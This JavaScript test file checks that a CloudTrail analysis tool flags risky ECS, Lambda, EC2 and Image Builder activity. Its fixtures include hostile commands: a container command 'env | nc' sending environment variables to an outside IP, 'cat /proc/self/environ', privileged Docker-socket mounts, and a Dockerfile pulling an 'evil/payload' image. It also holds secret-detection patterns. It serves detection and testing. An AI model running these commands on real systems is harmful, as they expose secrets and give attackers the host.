  await t.shot('images-ecs-role-override', { fullPage: false });
  assert.deepEqual(t.problems, []);
});

test('a task definition revision that runs privileged with the Docker socket and holds a key pair, then started: two high items, and the ECS list says so', async () => {
  // The contractor registers the next revision of a family of the sample, privileged, mounting
  // the instance's Docker socket and given its disk (ECS's `privileged`, `volumes[].host.sourcePath`
  // mounted by `mountPoints`, and `linuxParameters.devices`), with an access key pair in its environment, and runs a task of it. Which
  // registrations ask for the host, or hold credentials, when the family's registration before did
  // not is worked out here from the raw events.
  const { events, ok, last, family, where, revision, account, contractor, at, ecs } = nextRevision('06', '203.0.113.71', 'e');
  const image = last.requestParameters.containerDefinitions[0].image;
  const mine = [
    ecs(1, 'RegisterTaskDefinition', { family, volumes: [{ name: 'docker', host: { sourcePath: '/var/run/docker.sock' } }],
      containerDefinitions: [{ name: 'app', image, privileged: true, mountPoints: [{ sourceVolume: 'docker', containerPath: '/var/run/docker.sock' }],
        linuxParameters: { devices: [{ hostPath: '/dev/xvda', containerPath: '/dev/xvda', permissions: ['read'] }] },
        environment: [{ name: 'AWS_ACCESS_KEY_ID', value: 'AKIAE2ELEAKED0000006' }, { name: 'AWS_SECRET_ACCESS_KEY', value: 'e2e/NOT+A+REAL+SECRET+0000000000000000000' }] }] },
    { taskDefinition: { family, revision } }),
    ecs(2, 'RunTask', { cluster: 'e2e', taskDefinition: `${family}:${revision}` }, null),
    // A family of its own that sends its logs to CloudWatch, then nowhere.
    ecs(3, 'RegisterTaskDefinition', { family: 'e2e-quiet', containerDefinitions: [{ name: 'q', image, logConfiguration: { logDriver: 'awslogs' } }] },
      { taskDefinition: { family: 'e2e-quiet', revision: 1 } }),
    ecs(4, 'RegisterTaskDefinition', { family: 'e2e-quiet', containerDefinitions: [{ name: 'q', image }] },
      { taskDefinition: { family: 'e2e-quiet', revision: 2 } }),
  ];
  const all = [...events, ...mine];
  const asksHost = (e) => {
    const r = e.requestParameters;
    const mounted = new Set(r.containerDefinitions.flatMap((c) => (c.mountPoints ?? []).map((m) => m.sourceVolume)));
    return r.pidMode === 'host' || r.ipcMode === 'host' || r.networkMode === 'host'
      || r.containerDefinitions.some((c) => c.privileged === true || c.linuxParameters?.devices?.length)
      || (r.volumes ?? []).some((v) => v.host?.sourcePath && mounted.has(v.name));
  };
  const registered = all.filter((e) => ok(e) && e.eventName === 'RegisterTaskDefinition');
  const flagged = registered.filter((e) => {
    const before = registered.filter((o) => where(o) === where(e) && o.responseElements.taskDefinition.revision < e.responseElements.taskDefinition.revision)
      .sort((a, b) => a.responseElements.taskDefinition.revision - b.responseElements.taskDefinition.revision).at(-1);
    return asksHost(e) && !(before && asksHost(before));
  });
  assert.deepEqual(flagged, [mine[0]]);
  const previous = registered.filter((o) => where(o) === where(last) && o.responseElements.taskDefinition.revision < revision)
    .sort((a, b) => a.responseElements.taskDefinition.revision - b.responseElements.taskDefinition.revision).at(-1);
  const file = join(mkdtempSync(join(tmpdir(), 'trailscope-host-')), 'host.json');
  const { t, list } = await attentionOf(file, all);
  const item = list.locator('li[data-kind=task-def-host-access]');
  await item.first().waitFor();
  assert.equal(await item.count(), flagged.length);
  assert.equal(await item.getAttribute('data-severity'), 'high');
  assert.equal(await item.locator('[data-testid=attention-who]').getAttribute('data-principal'), contractor.arn);
  assert.equal(await item.locator('[data-testid=attention-title]').innerText(), `Task definition ${family} gives its containers the host`);
  if (await item.locator('[data-testid=attention-read]').count()) await item.locator('[data-testid=attention-read]').click();
  const why = await item.locator('[data-testid=attention-why]').innerText();
  assert.ok(why.includes(`${family}:${revision} (${account}, ${last.awsRegion}), registered at ${utc(at(1))} from 203.0.113.71 with AWS CLI, `
    + "gives its containers the host they run on: it runs privileged, is given the host's device /dev/xvda, "
    + "mounts the host's /var/run/docker.sock."), why);
  assert.ok(why.includes(`The registration of ${family} before it in these logs, ${family}:${previous.responseElements.taskDefinition.revision} `
    + `at ${utc(previous.eventTime)} by ${previous.userIdentity.arn}, did not.`), why);
  assert.ok(why.includes(`Started from it: a task on cluster e2e (RunTask at ${utc(at(2))} by ${contractor.arn}).`), why);
  await item.scrollIntoViewIfNeeded();
  await t.shot('identities-task-def-host-access', { fullPage: false });
  // The credentials: names that say so, with a value; the secret itself never shown.
  const creds = (e) => e.requestParameters.containerDefinitions.flatMap((c) => c.environment ?? [])
    .filter((v) => v.value && /^(AWS_ACCESS_KEY_ID|AWS_SECRET_ACCESS_KEY|AWS_SESSION_TOKEN|ECS_ENGINE_AUTH_DATA)$|PASSWORD|PASSWD|SECRET|PRIVATE_KEY|API_KEY/.test(v.name.toUpperCase()));
  const holding = registered.filter((e) => creds(e).length > 0);
  assert.deepEqual(holding, [mine[0]]);
  const credItem = list.locator('li[data-kind=task-def-credentials]');
  assert.equal(await credItem.count(), holding.length);
  assert.equal(await credItem.getAttribute('data-severity'), 'high');
  assert.equal(await credItem.locator('[data-testid=attention-title]').innerText(), `Task definition ${family} holds credentials`);
  if (await credItem.locator('[data-testid=attention-read]').count()) await credItem.locator('[data-testid=attention-read]').click();
  const credWhy = await credItem.locator('[data-testid=attention-why]').innerText();
  assert.ok(credWhy.includes('holds credentials in plain environment variables: AWS_ACCESS_KEY_ID (AKIAE2ELEAKED0000006), AWS_SECRET_ACCESS_KEY.'), credWhy);
  assert.ok(credWhy.includes('Key AKIAE2ELEAKED0000006 signed no call in the rows looked at.'), credWhy);
  assert.ok(!credWhy.includes('NOT+A+REAL+SECRET'), credWhy);
  // The family whose logging was dropped: registrations naming no log driver after one that did.
  const drivers = (e) => e.requestParameters.containerDefinitions.map((c) => c.logConfiguration?.logDriver).filter((d) => d && d !== 'none');
  const quiet = registered.filter((e) => {
    const before = registered.filter((o) => where(o) === where(e) && o.responseElements.taskDefinition.revision < e.responseElements.taskDefinition.revision)
      .sort((a, b) => a.responseElements.taskDefinition.revision - b.responseElements.taskDefinition.revision).at(-1);
    return before && drivers(before).length > 0 && drivers(e).length === 0;
  });
  assert.deepEqual(quiet, [mine[3]]);
  const quietItem = list.locator('li[data-kind=task-def-logs-dropped]');
  assert.equal(await quietItem.count(), quiet.length);
  assert.equal(await quietItem.getAttribute('data-severity'), 'medium');
  assert.equal(await quietItem.locator('[data-testid=attention-title]').innerText(), 'Task definition e2e-quiet stops sending logs');
  // The ECS list says it of the registration and of the task started from it, and of nothing else.
  await t.page.click('[data-testid=tab-images]');
  await t.page.click('[data-testid=images-nav-ecs]');
  await t.page.waitForSelector('[data-testid=ecs-list][data-state=ready]');
  await t.page.waitForFunction(() => document.querySelectorAll('[data-testid=ecs-host-access]').length > 0);
  const rows = t.page.locator('[data-testid=ecs-row]:has([data-testid=ecs-host-access])');
  assert.deepEqual((await rows.evaluateAll((els) => els.map((el) => el.dataset.call))).sort(), ['RegisterTaskDefinition', 'RunTask']);
  for (const text of await t.page.locator('[data-testid=ecs-host-access]').allInnerTexts()) {
    assert.equal(text, "host: runs privileged, is given the host's device /dev/xvda, mounts the host's /var/run/docker.sock");
  }
  assert.deepEqual(await t.page.locator('[data-testid=ecs-credentials]').allInnerTexts(),
    ['credentials in environment: AWS_ACCESS_KEY_ID (AKIAE2ELEAKED0000006), AWS_SECRET_ACCESS_KEY']);
  assert.equal(await t.page.locator('body').evaluate((b) => b.innerText.includes('NOT+A+REAL+SECRET')), false);
  await t.page.locator('[data-testid=ecs-host-access]').first().scrollIntoViewIfNeeded();
  await t.shot('images-ecs-host-access', { fullPage: false });
  assert.deepEqual(t.problems, []);
});

test("a Lambda function's image swapped for another account's: a high item", async () => {
  // The contractor creates a function on an image of the sample's registry, then points its code at
  // an image in another account's registry (Lambda's `CreateFunction` `code.imageUri`,
  // `UpdateFunctionCode` `imageUri`). Which writes give a function an image from an account none
  // of its earlier writes named is worked out here from the raw events.
  const { events, last, account, contractor, at, ecs } = nextRevision('07', '203.0.113.72', 'f');
  const image = last.requestParameters.containerDefinitions[0].image;
  const theirs = '999988887777.dkr.ecr.us-east-1.amazonaws.com/tools/payload:latest';
  const lambda = (n, name, req) => ({ ...ecs(n, name, req, null), eventSource: 'lambda.amazonaws.com', readOnly: false });
  const mine = [
    lambda(1, 'CreateFunction20150331', { functionName: 'e2e-fn', packageType: 'Image', code: { imageUri: image } }),
    lambda(2, 'UpdateFunctionCode20150331v2', { functionName: `arn:aws:lambda:${last.awsRegion}:${account}:function:e2e-fn`, imageUri: theirs }),
  ];
  const all = [...events, ...mine];
  const lambdas = all.filter((e) => e.eventSource === 'lambda.amazonaws.com' && !e.errorCode);
  const uri = (e) => e.requestParameters?.imageUri ?? e.requestParameters?.code?.imageUri ?? '';
  const registry = (u) => /^(\d{12})\.dkr\.ecr\./.exec(u)?.[1];
  const fn = (e) => e.requestParameters.functionName.split(':function:').pop().split(':')[0];
  const flagged = lambdas.filter((e, i) => {
    const from = registry(uri(e));
    return from && from !== e.recipientAccountId
      && !lambdas.slice(0, i).some((o) => fn(o) === fn(e) && registry(uri(o)) === from);
  });
  assert.deepEqual(flagged, [mine[1]]);
  const file = join(mkdtempSync(join(tmpdir(), 'trailscope-lambda-')), 'lambda.json');
  const { t, list } = await attentionOf(file, all);
  const item = list.locator('li[data-kind=workload-image-from-outside]');
  await item.first().waitFor();
  assert.equal(await item.count(), flagged.length);
  assert.equal(await item.getAttribute('data-severity'), 'high');
  assert.equal(await item.locator('[data-testid=attention-who]').getAttribute('data-principal'), contractor.arn);
  assert.equal(await item.locator('[data-testid=attention-title]').innerText(), 'Lambda function e2e-fn runs an image of account 999988887777');
  if (await item.locator('[data-testid=attention-read]').count()) await item.locator('[data-testid=attention-read]').click();
  const why = await item.locator('[data-testid=attention-why]').innerText();
  assert.ok(why.startsWith(`Lambda function e2e-fn (${account}, ${last.awsRegion}), UpdateFunctionCode20150331v2 at ${utc(at(2))} `
    + `from 203.0.113.72 with AWS CLI, names ${theirs} (ECR of account 999988887777).`), why);
  assert.ok(why.includes(`the last, CreateFunction20150331 at ${utc(at(1))} by ${contractor.arn}, named ${image}.`), why);
  await item.scrollIntoViewIfNeeded();
  assert.ok(why.includes("with the function's role: check whose account it is, and who may change the function."), why);
  await t.shot('identities-workload-image-from-outside', { fullPage: false });
  assert.deepEqual(t.problems, []);
});

test('commands run in running containers with ECS Exec are an item per principal and cluster', async () => {
  // The task's starter turns ECS Exec on for a service of the cluster (`enableExecuteCommand`);
  // the contractor opens a shell in a task of the cluster, then reads its environment; a refused
  // try by someone else is no item. The item's commands, and the call that turned ECS Exec on
  // before them, are worked out from the events.
  const events = sample();
  const task = events.find((e) => e.eventSource === 'ecs.amazonaws.com' && e.eventName === 'RunTask' && !e.errorCode
    && e.responseElements?.tasks?.[0]?.taskArn);
  assert.ok(task, 'the sample starts a task');
  const { taskArn, clusterArn } = task.responseElements.tasks[0];
  const cluster = clusterArn.split('/').pop();
  const account = task.recipientAccountId;
  const contractor = { type: 'IAMUser', principalId: 'AIDAE2ECONTRACTOR05', arn: `arn:aws:iam::${account}:user/contractor`,
    accountId: account, accessKeyId: 'AKIAE2ECONTRACTOR005', userName: 'contractor' };
  const at = (s) => new Date(Date.parse(task.eventTime) + s * 1000).toISOString().replace('.000Z', 'Z');
  const exec = (n, who, command, errorCode) => ({
    eventVersion: '1.09', userIdentity: who, eventTime: at(n), eventSource: 'ecs.amazonaws.com', eventName: 'ExecuteCommand',
    awsRegion: task.awsRegion, sourceIPAddress: '203.0.113.70', userAgent: 'aws-cli/2.15.0', recipientAccountId: account,
    requestParameters: { cluster, task: taskArn, container: 'app', command, interactive: true },
    responseElements: errorCode ? null : { clusterArn, taskArn, session: { sessionId: `ecs-execute-command-${n}` } },
    ...(errorCode ? { errorCode, errorMessage: 'not allowed' } : {}),
    eventID: `7e2e0000-0000-4000-a000-0000000000e${n}`, eventType: 'AwsApiCall',
  });
  const turnOn = { ...exec(0, task.userIdentity, ''), eventName: 'UpdateService', eventID: '7e2e0000-0000-4000-a000-0000000000e0',
    requestParameters: { cluster, service: 'e2e-shell', enableExecuteCommand: true, forceNewDeployment: true }, responseElements: null };
  const mine = [turnOn, exec(1, contractor, '/bin/sh'), exec(2, contractor, 'cat /proc/self/environ'),
    exec(3, task.userIdentity, '/bin/sh', 'AccessDeniedException')];
  const ran = [...events, ...mine].filter((e) => e.eventSource === 'ecs.amazonaws.com' && e.eventName === 'ExecuteCommand' && !e.errorCode);
  assert.equal(ran.length, 2, 'the sample runs no command of its own');
  const file = join(mkdtempSync(join(tmpdir(), 'trailscope-exec-')), 'exec.json');
  const { t, list } = await attentionOf(file, [...events, ...mine]);
  const item = list.locator('li[data-kind=container-exec]');
  await item.first().waitFor();
  assert.equal(await item.count(), 1);
  assert.equal(await item.getAttribute('data-severity'), 'medium');
  assert.equal(await item.locator('[data-testid=attention-who]').getAttribute('data-principal'), contractor.arn);
  assert.equal(await item.locator('[data-testid=attention-title]').innerText(), `Commands run in containers of cluster ${cluster}`);
  if (await item.locator('[data-testid=attention-read]').count()) await item.locator('[data-testid=attention-read]').click();
  const why = await item.locator('[data-testid=attention-why]').innerText();
  const told = ran.map((e) => `${e.requestParameters.command} in task ${e.requestParameters.task.split('/').pop()} at ${utc(e.eventTime)}`).join('; ');
  assert.ok(why.startsWith(`${ran.length} commands run in running containers of cluster ${cluster} (${account}, ${task.awsRegion}) with ECS Exec: ${told}. `
    + 'From 203.0.113.70 with AWS CLI.'), why);
  const on = [...events, ...mine].filter((e) => e.eventSource === 'ecs.amazonaws.com' && !e.errorCode && e.requestParameters?.enableExecuteCommand === true
    && (e.requestParameters.cluster ?? 'default').split('/').pop() === cluster && e.eventTime <= ran[0].eventTime).at(-1);
  assert.equal(on, turnOn);
  assert.ok(why.includes(`ECS Exec was turned on before by service e2e-shell of cluster ${cluster} (UpdateService at ${utc(on.eventTime)} `
    + `by ${on.userIdentity.arn}).`), why);
  await item.scrollIntoViewIfNeeded();
  await t.shot('identities-container-exec', { fullPage: false });
  // The ECS list says which call turned it on.
  await t.page.click('[data-testid=tab-images]');
  await t.page.click('[data-testid=images-nav-ecs]');
  await t.page.waitForSelector('[data-testid=ecs-list][data-state=ready]');
  await t.page.waitForFunction(() => document.querySelectorAll('[data-testid=ecs-exec]').length > 0);
  const turned = [...events, ...mine].filter((e) => e.eventSource === 'ecs.amazonaws.com' && typeof e.requestParameters?.enableExecuteCommand === 'boolean'
    && ['CreateService', 'UpdateService'].includes(e.eventName) || ['RunTask', 'StartTask'].includes(e.eventName) && e.requestParameters?.enableExecuteCommand === true);
  assert.deepEqual((await t.page.locator('[data-testid=ecs-exec]').evaluateAll((els) => els.map((el) => el.dataset.on))).sort(),
    turned.map((e) => String(e.requestParameters.enableExecuteCommand)).sort());
  assert.equal(await t.page.locator('[data-testid=ecs-exec]').first().innerText(), 'ECS Exec turned on');
  assert.deepEqual(t.problems, []);
});

const CORPUS = corpusDir();

test('an AMI and a snapshot shared with a stranger\'s account, one taken back: high items that say so', { skip: CORPUS ? false : 'the shared corpus is not there' }, async () => {
  // Stratus Red Team's ec2-share-ami detonation (DataDog's recording) and invictus-ir's attack
  // simulation, which shares an AMI and a snapshot and takes both back a minute later. What each
  // call adds, and what takes it back, is worked out here from the raw events.
  const files = [join(CORPUS, 'DataDog-stratus-red-team/aws.exfiltration.ec2-share-ami.json'),
    ...['1215Z_YMDRJwtmC82bUwAo', '1220Z_ovtmbuX3ENJ119uH'].map((x) => join(CORPUS, `invictus-ir-aws_dataset/CloudTrail/218007301253_CloudTrail_us-east-1_20230710T${x}.json`))];
  const events = files.flatMap((f) => {
    const v = JSON.parse(readFileSync(f, 'utf8'));
    return v.Records ?? (Array.isArray(v) ? v : [v]);
  });
  const field = (e) => (e.eventName === 'ModifyImageAttribute' ? 'launchPermission' : 'createVolumePermission');
  const id = (e) => e.requestParameters.imageId ?? e.requestParameters.snapshotId;
  const whom = (e, op) => (e.requestParameters?.[field(e)]?.[op]?.items ?? []).map((i) => i.userId ?? i.group);
  const calls = events.filter((e) => e.eventSource === 'ec2.amazonaws.com' && /^Modify(Image|Snapshot)Attribute$/.test(e.eventName) && !e.errorCode);
  const sharing = calls.filter((e) => whom(e, 'add').length > 0);
  assert.equal(sharing.length, 3);
  const t = await Trailscope.open(env);
  await t.pickFiles(files);
  await t.waitDone();
  await openIdentities(t);
  const list = t.page.locator('[data-testid=identity-attention]');
  await list.locator('li[data-kind]').first().waitFor();
  if (await list.locator('[data-testid=list-more]').count()) await list.locator('[data-testid=list-more]').click();
  const items = list.locator('li[data-kind=image-shared]');
  assert.equal(await items.count(), sharing.length);
  for (const e of sharing) {
    const [account] = whom(e, 'add');
    const kind = e.eventName === 'ModifyImageAttribute' ? 'AMI' : 'EBS snapshot';
    const item = items.filter({ has: t.page.locator('[data-testid=attention-title]', { hasText: `${id(e)} shared with ${account}` }) });
    assert.equal(await item.count(), 1, `${kind} ${id(e)}`);
    // None of the accounts it goes to has events in these logs: high.
    assert.ok(!events.some((o) => o.recipientAccountId === account));
    assert.equal(await item.getAttribute('data-severity'), 'high');
    assert.equal(await item.locator('[data-testid=attention-who]').getAttribute('data-principal'), e.userIdentity.arn);
    if (await item.locator('[data-testid=attention-read]').count()) await item.locator('[data-testid=attention-read]').click();
    const why = await item.locator('[data-testid=attention-why]').innerText();
    const back = calls.find((o) => id(o) === id(e) && o.eventTime > e.eventTime && whom(o, 'remove').includes(account));
    const said = back ? `Taken back at ${back.eventTime.replace('T', ' ').replace('Z', ' UTC')} by ${back.userIdentity.arn}`
      : 'Nothing in these logs takes it back.';
    assert.ok(why.includes(said), `${said}\n${why}`);
    assert.ok(why.includes(`shared ${kind} ${id(e)} (${e.recipientAccountId}, ${e.awsRegion}) with account ${account}.`), why);
    assert.ok(why.includes(`No event of account ${account} is in these logs.`), why);
  }
  await items.first().scrollIntoViewIfNeeded();
  await t.shot('identities-image-shared', { fullPage: false });
  assert.deepEqual(t.problems, []);
});

test("an Image Builder recipe that builds on a stranger's component and another's ECR image: high items, and the list says what each recipe builds on", async () => {
  // Recipes made as the Image Builder API reference writes CreateImageRecipe and
  // CreateContainerRecipe: version 1.0.0 on AWS's parent and the account's own component, 1.1.0
  // adding a component of an account none of whose events are here; a container recipe on that
  // account's ECR image. Which sources are another account's, and new to their recipe, is worked
  // out here from the raw events.
  const account = '111122223333';
  const region = 'eu-west-1';
  const who = { type: 'AssumedRole', principalId: 'AROAE2E:ci', arn: `arn:aws:sts::${account}:assumed-role/ci/ci`, accountId: account, accessKeyId: 'ASIAE2ECI0000000001' };
  const ib = (n, name, req, resp) => ({ eventVersion: '1.08', eventTime: `2026-06-01T0${n}:00:00Z`, eventSource: 'imagebuilder.amazonaws.com',
    eventName: name, awsRegion: region, sourceIPAddress: '203.0.113.80', userAgent: 'aws-cli/2.15.0', eventID: `1b1b0000-0000-4000-a000-00000000000${n}`,
    eventType: 'AwsApiCall', recipientAccountId: account, userIdentity: who, requestParameters: req, responseElements: resp });
  const arn = (owner, what) => `arn:aws:imagebuilder:${region}:${owner}:${what}`;
  const recipe = (n, version, components) => ib(n, 'CreateImageRecipe',
    { name: 'golden', semanticVersion: version, parentImage: arn('aws', 'image/amazon-linux-2023-x86/x.x.x'),
      components: components.map((componentArn) => ({ componentArn })), clientToken: `c${n}` },
    { requestId: `r${n}`, clientToken: `c${n}`, imageRecipeArn: arn(account, `image-recipe/golden/${version}`) });
  const stranger = '999988887777';
  const records = [
    recipe(1, '1.0.0', [arn('aws', 'component/update-linux/x.x.x'), arn(account, 'component/hardening/1.0.0')]),
    recipe(2, '1.1.0', [arn('aws', 'component/update-linux/x.x.x'), arn(account, 'component/hardening/1.0.0'), arn(stranger, 'component/helper/1.0.0/1')]),
    ib(3, 'CreateContainerRecipe', { containerType: 'DOCKER', name: 'web-base', semanticVersion: '1.0.0',
      parentImage: `${stranger}.dkr.ecr.${region}.amazonaws.com/base/python:3.12`, components: [{ componentArn: arn('aws', 'component/update-linux/x.x.x') }],
      targetRepository: { service: 'ECR', repositoryName: 'web/base' }, clientToken: 'c3' },
    { requestId: 'r3', clientToken: 'c3', containerRecipeArn: arn(account, 'container-recipe/web-base/1.0.0') }),
  ];
  // Its next version's Dockerfile (Image Builder's template, then one line more) also copies a
  // file from an image on GitHub's registry, which no earlier version built on.
  const payload = 'ghcr.io/evil/payload:latest';
  records.push({ ...records[2], eventTime: '2026-06-01T04:00:00Z', eventID: '1b1b0000-0000-4000-a000-000000000004',
    requestParameters: { ...records[2].requestParameters, semanticVersion: '1.1.0', clientToken: 'c4',
      dockerfileTemplateData: `FROM {{{ imagebuilder:parentImage }}}\n{{{ imagebuilder:components }}}\nCOPY --from=${payload} /p /p\n` },
    responseElements: { requestId: 'r4', clientToken: 'c4', containerRecipeArn: arn(account, 'container-recipe/web-base/1.1.0') } });
  // Whose each source is: an ARN's owner, an ECR URI's account, else an image URI's registry host.
  const ownerOf = (s) => (s.startsWith('arn:') ? s.split(':')[4] : s.includes('.dkr.ecr.') ? s.split('.dkr.ecr.')[0] : s.split('/')[0]);
  const copied = (e) => [...(e.requestParameters.dockerfileTemplateData ?? '').matchAll(/--from=(\S+)/g)].map((m) => m[1]);
  const sources = (e) => [e.requestParameters.parentImage, ...e.requestParameters.components.map((c) => c.componentArn), ...copied(e)];
  const outside = (e) => sources(e).map(ownerOf).filter((o) => o !== 'aws' && o !== e.recipientAccountId);
  const flagged = records.filter((e) => {
    const earlier = records.filter((o) => o.requestParameters.name === e.requestParameters.name && o.eventTime < e.eventTime);
    // Another registry than ECR tells only against earlier versions.
    return outside(e).some((o) => (/^\d{12}$/.test(o) || earlier.length) && !earlier.some((x) => outside(x).includes(o)));
  });
  assert.equal(flagged.length, 3);
  const file = join(mkdtempSync(join(tmpdir(), 'trailscope-recipe-')), 'recipes.json');
  const { t, list } = await attentionOf(file, records);
  const items = list.locator('li[data-kind=recipe-from-outside]');
  assert.equal(await items.count(), flagged.length);
  const titles = (await items.locator('[data-testid=attention-title]').allInnerTexts()).sort();
  assert.deepEqual(titles, [`Recipe golden builds on ${stranger}'s component`, `Recipe web-base builds on ${stranger}'s image`,
    "Recipe web-base builds on ghcr.io's image"]);
  // High for the stranger's account; another registry is medium.
  const severities = await items.evaluateAll((els) => els.map((el) => [el.querySelector('[data-testid=attention-title]').innerText, el.dataset.severity]));
  for (const [title, s] of severities) assert.equal(s, title.includes('ghcr.io') ? 'medium' : 'high', title);
  const golden = items.filter({ hasText: 'Recipe golden' });
  if (await golden.locator('[data-testid=attention-read]').count()) await golden.locator('[data-testid=attention-read]').click();
  const why = await golden.locator('[data-testid=attention-why]').innerText();
  assert.ok(why.includes(`made Image Builder recipe golden 1.1.0 (${account}, ${region}) that builds on component ${arn(stranger, 'component/helper/1.0.0/1')} (account ${stranger}).`), why);
  assert.ok(why.includes('Its earlier versions in these logs (1.0.0) did not.'), why);
  await items.first().scrollIntoViewIfNeeded();
  await t.shot('identities-recipe-from-outside', { fullPage: false });
  // The Image Builder list says what each recipe builds on, and whose.
  await t.page.click('[data-testid=tab-images]');
  await t.page.click('[data-testid=images-nav-builder]');
  await t.page.waitForSelector('[data-testid=builder-list][data-state=ready]');
  await t.page.waitForFunction(() => document.querySelectorAll('[data-testid=builder-parent]').length > 0);
  const shownParents = (await t.page.locator('[data-testid=builder-parent]').allInnerTexts()).sort();
  const want = records.map((e) => {
    const p = e.requestParameters.parentImage;
    const tail = p.startsWith('arn:') ? p.split(':').slice(5).join(':') : p;
    return `builds on ${tail}${/^\d{12}$/.test(ownerOf(p)) ? ` (account ${ownerOf(p)})` : ''}`;
  }).sort();
  assert.deepEqual(shownParents, want);
  const dockerfile = await t.page.locator('[data-testid=builder-dockerfile]').allInnerTexts();
  assert.deepEqual(dockerfile, records.filter((e) => copied(e).length).map((e) => `Dockerfile builds on: ${copied(e).join(', ')}`));
  const comps = await t.page.locator('[data-testid=builder-components]').allInnerTexts();
  assert.ok(comps.some((c) => c.includes(`component/helper/1.0.0/1 (account ${stranger})`)), comps.join('\n'));
  await t.page.locator('[data-testid=builder-components]').first().scrollIntoViewIfNeeded();
  await t.shot('images-builder-recipe', { fullPage: false });
  assert.deepEqual(t.problems, []);
});

test("a task of the sample's family started with its command replaced by someone new to it: an item", async () => {
  // The contractor, who never registered, deployed or started the family, runs a task of the
  // sample's last family with a shell in place of the image's command (RunTask's
  // `containerOverrides[].command`); the family's registrant runs one too (a migration: no item).
  // Who had touched the family before each start is worked out here from the raw events.
  const { events, ok, last, family, account, contractor, at, ecs } = nextRevision('07', '203.0.113.72', 'f');
  const revision = last.responseElements.taskDefinition.revision;
  const run = (n, who, command) => ({ ...ecs(n, 'RunTask', { cluster: 'e2e', taskDefinition: `${family}:${revision}`,
    overrides: { containerOverrides: [{ name: 'app', command }] } }, null), userIdentity: who });
  const mine = [run(1, contractor, ['sh', '-c', 'env | nc 203.0.113.72 4444']), run(2, last.userIdentity, ['./migrate'])];
  const all = [...events, ...mine];
  const of = (e) => e.requestParameters?.family ?? e.responseElements?.taskDefinition?.family
    ?? String(e.requestParameters?.taskDefinition ?? '').split('/').pop().split(':')[0];
  const touched = (who, before) => all.some((e) => ok(e) && e.eventTime < before.eventTime && e.userIdentity?.arn === who
    && of(e) === family && e.recipientAccountId === account && ['RegisterTaskDefinition', 'CreateService', 'UpdateService', 'RunTask', 'StartTask'].includes(e.eventName));
  const flagged = mine.filter((e) => !touched(e.userIdentity.arn, e));
  assert.deepEqual(flagged, [mine[0]]);
  const file = join(mkdtempSync(join(tmpdir(), 'trailscope-command-')), 'command.json');
  const { t, list } = await attentionOf(file, all);
  const item = list.locator('li[data-kind=task-command-replaced]');
  await item.first().waitFor();
  assert.equal(await item.count(), flagged.length);
  assert.equal(await item.getAttribute('data-severity'), 'medium');
  assert.equal(await item.locator('[data-testid=attention-who]').getAttribute('data-principal'), contractor.arn);
  assert.equal(await item.locator('[data-testid=attention-title]').innerText(), `Task of ${family} started with its command replaced`);
  if (await item.locator('[data-testid=attention-read]').count()) await item.locator('[data-testid=attention-read]').click();
  const why = await item.locator('[data-testid=attention-why]').innerText();
  assert.ok(why.startsWith(`RunTask of ${family}:${revision} started at ${utc(at(1))} on cluster e2e from 203.0.113.72 with AWS CLI ran, `
    + `in place of the image's command: sh -c env | nc 203.0.113.72 4444. ${contractor.arn} had not registered, deployed or started ${family} before in these logs.`), why);
  const role = last.requestParameters.taskRoleArn;
  assert.ok(why.includes(role ? `The task runs it with its definition's task role ${role}` : 'The task runs it with no task role (its definition gives none)'), why);
  await item.scrollIntoViewIfNeeded();
  await t.shot('identities-task-command-replaced', { fullPage: false });
  assert.deepEqual(t.problems, []);
});

test("a task of the sample's family started with a password in its environment: an item, and the ECS list says so", async () => {
  // The contractor runs a task of the sample's last family passing a database password in a
  // container override's environment (RunTask's `containerOverrides[].environment`, as the ECS
  // API reference writes it); the family's registrant passes only a log level (no item). Which
  // variables name a secret is worked out here from their names (AWS Config's
  // ecs-no-environment-secrets words, and the names AWS gives its credentials).
  const { events, last, family, contractor, at, ecs } = nextRevision('08', '203.0.113.73', 'a');
  const revision = last.responseElements.taskDefinition.revision;
  const run = (n, who, environment) => ({ ...ecs(n, 'RunTask', { cluster: 'e2e', taskDefinition: `${family}:${revision}`,
    overrides: { containerOverrides: [{ name: 'app', environment }] } }, null), userIdentity: who });
  const mine = [run(1, contractor, [{ name: 'LOG_LEVEL', value: 'debug' }, { name: 'DB_PASSWORD', value: 'correct-horse' }]),
    run(2, last.userIdentity, [{ name: 'LOG_LEVEL', value: 'trace' }])];
  const secret = (v) => v.value.trim() && /PASSWORD|PASSWD|SECRET|PRIVATE_KEY|API_KEY|^AWS_ACCESS_KEY_ID$|^AWS_SESSION_TOKEN$/i.test(v.name);
  const secrets = (e) => e.requestParameters.overrides.containerOverrides.flatMap((c) => c.environment).filter(secret);
  const flagged = mine.filter((e) => secrets(e).length);
  assert.deepEqual(flagged, [mine[0]]);
  const file = join(mkdtempSync(join(tmpdir(), 'trailscope-start-secrets-')), 'start.json');
  const { t, list } = await attentionOf(file, [...events, ...mine]);
  const item = list.locator('li[data-kind=task-start-credentials]');
  await item.first().waitFor();
  assert.equal(await item.count(), flagged.length);
  assert.equal(await item.getAttribute('data-severity'), 'medium');
  assert.equal(await item.locator('[data-testid=attention-who]').getAttribute('data-principal'), contractor.arn);
  assert.equal(await item.locator('[data-testid=attention-title]').innerText(), `Task of ${family} started with credentials`);
  if (await item.locator('[data-testid=attention-read]').count()) await item.locator('[data-testid=attention-read]').click();
  const why = await item.locator('[data-testid=attention-why]').innerText();
  const names = secrets(mine[0]).map((v) => v.name).join(', ');
  assert.ok(why.startsWith(`RunTask of ${family}:${revision} started at ${utc(at(1))} on cluster e2e from 203.0.113.73 with AWS CLI `
    + `gave its containers credentials in plain environment variables: ${names}.`), why);
  assert.ok(!why.includes('correct-horse'), 'a secret value is never shown');
  await item.scrollIntoViewIfNeeded();
  await t.shot('identities-task-start-credentials', { fullPage: false });
  // The ECS list says which credentials the start gave, and never their values.
  await t.page.click('[data-testid=tab-images]');
  await t.page.click('[data-testid=images-nav-ecs]');
  const row = t.page.locator('[data-testid=ecs-row]', { hasText: `credentials given in its environment: ${names}` });
  await row.first().waitFor();
  assert.equal(await row.count(), flagged.length);
  assert.ok(!(await t.page.locator('body').innerText()).includes('correct-horse'));
  assert.deepEqual(t.problems, []);
});
